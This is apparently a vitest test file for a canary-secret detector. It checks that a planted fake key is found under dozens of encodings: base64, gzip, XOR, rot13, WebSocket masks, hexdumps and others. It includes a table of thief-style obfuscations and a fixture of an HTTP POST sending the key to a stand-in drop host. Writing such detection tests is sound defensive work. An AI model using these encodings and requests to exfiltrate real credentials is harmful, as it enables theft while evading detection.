import { randomBytes } from 'node:crypto';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { processorMs } from '../../inspect/clock.fixture.ts';
import type { Canary } from './canary.ts';
import { searchFor } from './search.ts';

const SECRET = 'wJalrXUtnFEMIK7MDENGbPxRfiCYdQ5vLk82Zs0T';
const CANARY: Canary = {
  name: 'key',
  kind: 'file',
  place: '/home/user/.key',
  secrets: [Buffer.from(SECRET)],
  meantFor: [],
};

const base64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64');
const xor = (bytes: Uint8Array, key: number) => Buffer.from(Buffer.from(bytes).map((byte) => byte ^ key));
const base32 = (bytes: Uint8Array) => {
  const bits = [...bytes].map((byte) => byte.toString(2).padStart(8, '0')).join('');
  return (bits.match(/.{1,5}/g) ?? [])
    .map((group) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[Number.parseInt(group.padEnd(5, '0'), 2)])
    .join('');
};
/** Thirteen letters on is twenty-six places on here. */
const LETTERS = 'AaBbCcDdEeFfGgHhIiJjKkLlMmNnOoPpQqRrSsTtUuVvWwXxYyZz';
const hexOf = (c: string, width: number) => c.charCodeAt(0).toString(16).padStart(width, '0');
const base85 = (text: string) => {
  const bytes = Buffer.from(text.padEnd(Math.ceil(text.length / 4) * 4));
  const groups = Array.from({ length: bytes.length / 4 }, (_, index) => bytes.readUInt32BE(index * 4));
  const digits = (group: number) => [4, 3, 2, 1, 0].map((power) => Math.floor(group / 85 ** power) % 85);
  return groups.flatMap((group) => digits(group).map((digit) => String.fromCharCode(33 + digit))).join('');
};
const percent = (text: string) => [...text].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');

/** What a thief writes, given the text that holds the secret. */
const ENCODINGS: Record<string, (text: string) => string | Uint8Array> = {
  '': (text) => text,
  reversed: (text) => [...text].reverse().join(''),
  hex: (text) => Buffer.from(text).toString('hex'),
  base64: (text) => base64(Buffer.from(text)),
  base32: (text) => base32(Buffer.from(text)),
  url: (text) => percent(text),
  gzip: (text) => gzipSync(text),
  zlib: (text) => deflateSync(text),
  xor: (text) => xor(Buffer.from(text), 0x5a),
  'base64 gzip': (text) => base64(gzipSync(text)),
  'base64 deflate': (text) => base64(deflateRawSync(text)),
  'hex zlib': (text) => deflateSync(text).toString('hex'),
  'base32 gzip': (text) => base32(gzipSync(text)),
  'base64 reversed': (text) => base64(Buffer.from([...text].reverse().join(''))),
  'reversed base64': (text) => [...base64(Buffer.from(text))].reverse().join(''),
  'base64 xor': (text) => base64(xor(Buffer.from(text), 0xc3)),
  'hex xor': (text) => xor(Buffer.from(text), 1).toString('hex'),
  'base64 base64': (text) => base64(Buffer.from(base64(Buffer.from(text)))),
  rot13: (text) => text.replace(/[a-z]/gi, (c) => LETTERS[(LETTERS.indexOf(c) + 26) % 52] ?? c),
  base85: (text) => base85(text),
  'quoted-printable': (text) => [...text].map((c) => `=${hexOf(c, 2).toUpperCase()}`).join(''),
  escaped: (text) => [...text].map((c) => `\\u${hexOf(c, 4)}`).join(''),
  entities: (text) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join(''),
  decimal: (text) => JSON.stringify([...Buffer.from(text)]),
  'utf-16': (text) => Buffer.from(text, 'utf16le'),
  'base64 escaped': (text) => base64(Buffer.from([...text].map((c) => `\\x${hexOf(c, 2)}`).join(''))),
  'url base64': (text) => percent(base64(Buffer.from(text))),
};

function sightsIn(given: string | Uint8Array) {
  return searchFor([CANARY])(Buffer.from(given as string));
}

describe('a secret is found', () => {
  it.each(Object.entries(ENCODINGS))('as %j, whatever stands around it', (name, encode) => {
    for (const before of ['', 'x', 'xy', 'xyz', 'abcd', 'user=ada\n']) {
      const [sight] = sightsIn(encode(`${before}${SECRET} and more`));
      expect([before, sight?.encoding.join(' ')]).toEqual([before, name]);
    }
  });

  it.each(Object.entries(ENCODINGS))('as %j in the middle of something longer', (_, encode) => {
    const payload = Buffer.concat([
      Buffer.from('POST /collect HTTP/1.1\r\nHost: drop.example\r\n\r\n{"d":"'),
      Buffer.from(encode(`[default]\nkey = ${SECRET}\n`) as string),
      Buffer.from('"}'),
    ]);
    expect(sightsIn(payload)).toHaveLength(1);
  });

  it('in a frame of a WebSocket, under its mask', () => {
    for (const [length, text] of [
      [[0x80 | 60], SECRET.padStart(60)],
      [[0x80 | 126, 0, 200], SECRET.padEnd(200)],
    ] as const) {
      const body = Buffer.from(text).map((byte, index) => byte ^ ([9, 200, 31, 77][index & 3] ?? 0));
      expect(sightsIn(Buffer.concat([Buffer.from([0x81, ...length, 9, 200, 31, 77]), body]))).toHaveLength(1);
    }
  });

  it('under every key of XOR', () => {
    for (let key = 1; key < 256; key++) expect(sightsIn(xor(Buffer.from(`=${SECRET}=`), key))).toHaveLength(1);
  });

  it('in lines of 60 and of 76 characters', () => {
    const long = `${'padding '.repeat(20)}${SECRET}${' padding'.repeat(20)}`;
    const wrapped = (text: string, width: number) => text.replace(new RegExp(`.{${width}}`, 'g'), '$&\n');
    expect(sightsIn(wrapped(base64(Buffer.from(long)), 76))).toHaveLength(1);
    expect(sightsIn(wrapped(Buffer.from(long).toString('hex'), 60))).toHaveLength(1);
    expect(sightsIn(wrapped(base64(gzipSync(randomBytes(200).toString('hex') + long)), 76))).toHaveLength(1);
  });

  it.each(['xxd', 'hexdump -C'])('in what %s prints', (program) => {
    const bytes = Buffer.from(`key: ${SECRET}, and that is all`);
    const rows = Array.from({ length: Math.ceil(bytes.length / 16) }, (_, index) => {
      const row = bytes.subarray(index * 16, index * 16 + 16);
      const [colon, pattern] = program === 'xxd' ? [':', /.{1,4}/g] : ['', /../g];
      const shown = row.toString('hex').match(pattern)?.join(' ') ?? '';
      return `${(index * 16).toString(16).padStart(8, '0')}${colon} ${shown}  ${row.toString('latin1')}`;
    });
    expect(sightsIn(rows.join('\n'))).toMatchObject([{ encoding: ['hex'] }]);
  });

  it('in a compressed stream that was cut off', () => {
    const whole = gzipSync(`${SECRET}${randomBytes(4000).toString('hex')}`);
    expect(sightsIn(whole.subarray(0, 1000))).toHaveLength(1);
  });
});

describe('nothing is found', () => {
  it('in chance, in text and in what looks like secrets', () => {
    const search = searchFor([CANARY]);
    const others = Array.from({ length: 200 }, () => `ghp_${randomBytes(27).toString('base64')}`).join('\n');
    const text = 'The quick brown fox jumps over the lazy dog.\n'.repeat(2000);
    const ordinary = [randomBytes(300_000), others, text, base64(randomBytes(100_000)), gzipSync(text)];
    for (const given of ordinary) expect(search(Buffer.from(given as string))).toEqual([]);
    for (const encode of Object.values(ENCODINGS))
      expect(search(Buffer.from(encode(others.slice(0, 4000)) as string))).toEqual([]);
  });

  it('in half of a secret', () => {
    expect(sightsIn(SECRET.slice(0, 20))).toEqual([]);
  });
});

describe('its work is bounded', () => {
  it('for streams that inflate without end, and says that there was more', async () => {
    const bomb = gzipSync(Buffer.alloc(50_000_000));
    const search = searchFor([CANARY]);
    const spent = await processorMs(() => {
      for (let turn = 0; turn < 40; turn++) search(Buffer.concat([bomb, randomBytes(900_000)]));
    });
    expect(search.exhausted).toBe(true);
    expect(spent).toBeLessThan(20_000);
  });
});
